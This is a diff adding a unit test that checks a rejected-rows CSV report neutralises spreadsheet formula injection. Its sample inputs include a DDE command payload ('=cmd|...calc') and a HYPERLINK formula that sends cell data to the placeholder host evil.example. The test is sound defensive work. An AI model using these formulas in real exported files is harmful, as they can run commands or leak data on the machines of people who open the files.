@@ -163,4 +163,17 @@ describe('importRecords: JSONL / NDJSON', () => {
     expect(report).toContain('2,3,invalid-json,');
     expect(report).toContain('"{""id"":""a2""');
   });
+  it('neutralises spreadsheet formulas in every cell of the rejected-rows report (OWASP CSV injection)', () => {
+    const hostile = ["=cmd|' /C calc'!A0", '+SUM(1,1)', '@SUM(1,1)', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '-2+3', '\tstarts with tab', '\rstarts with CR'];
+    const report = formatRejectedReport(hostile.map((text, i) => ({ row: i + 1, line: i + 2, reason: 'empty-text', detail: text, raw: text })));
+    const lines = report.split('\r\n').slice(1, -1);
+    expect(lines).toHaveLength(hostile.length);
+    expect(lines[0]).toBe(`1,2,empty-text,"'=cmd|' /C calc'!A0","'=cmd|' /C calc'!A0"`);
+    expect(lines[1]).toBe(`2,3,empty-text,"'+SUM(1,1)","'+SUM(1,1)"`);
+    expect(lines[2]).toBe(`3,4,empty-text,"'@SUM(1,1)","'@SUM(1,1)"`);
+    expect(lines[3]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
+    expect(lines[4]).toBe(`5,6,empty-text,"'-2+3","'-2+3"`);
+    expect(lines[5]).toBe(`6,7,empty-text,"'\tstarts with tab","'\tstarts with tab"`);
+    expect(report).toContain(`"'\rstarts with CR"`);
+  });
 });
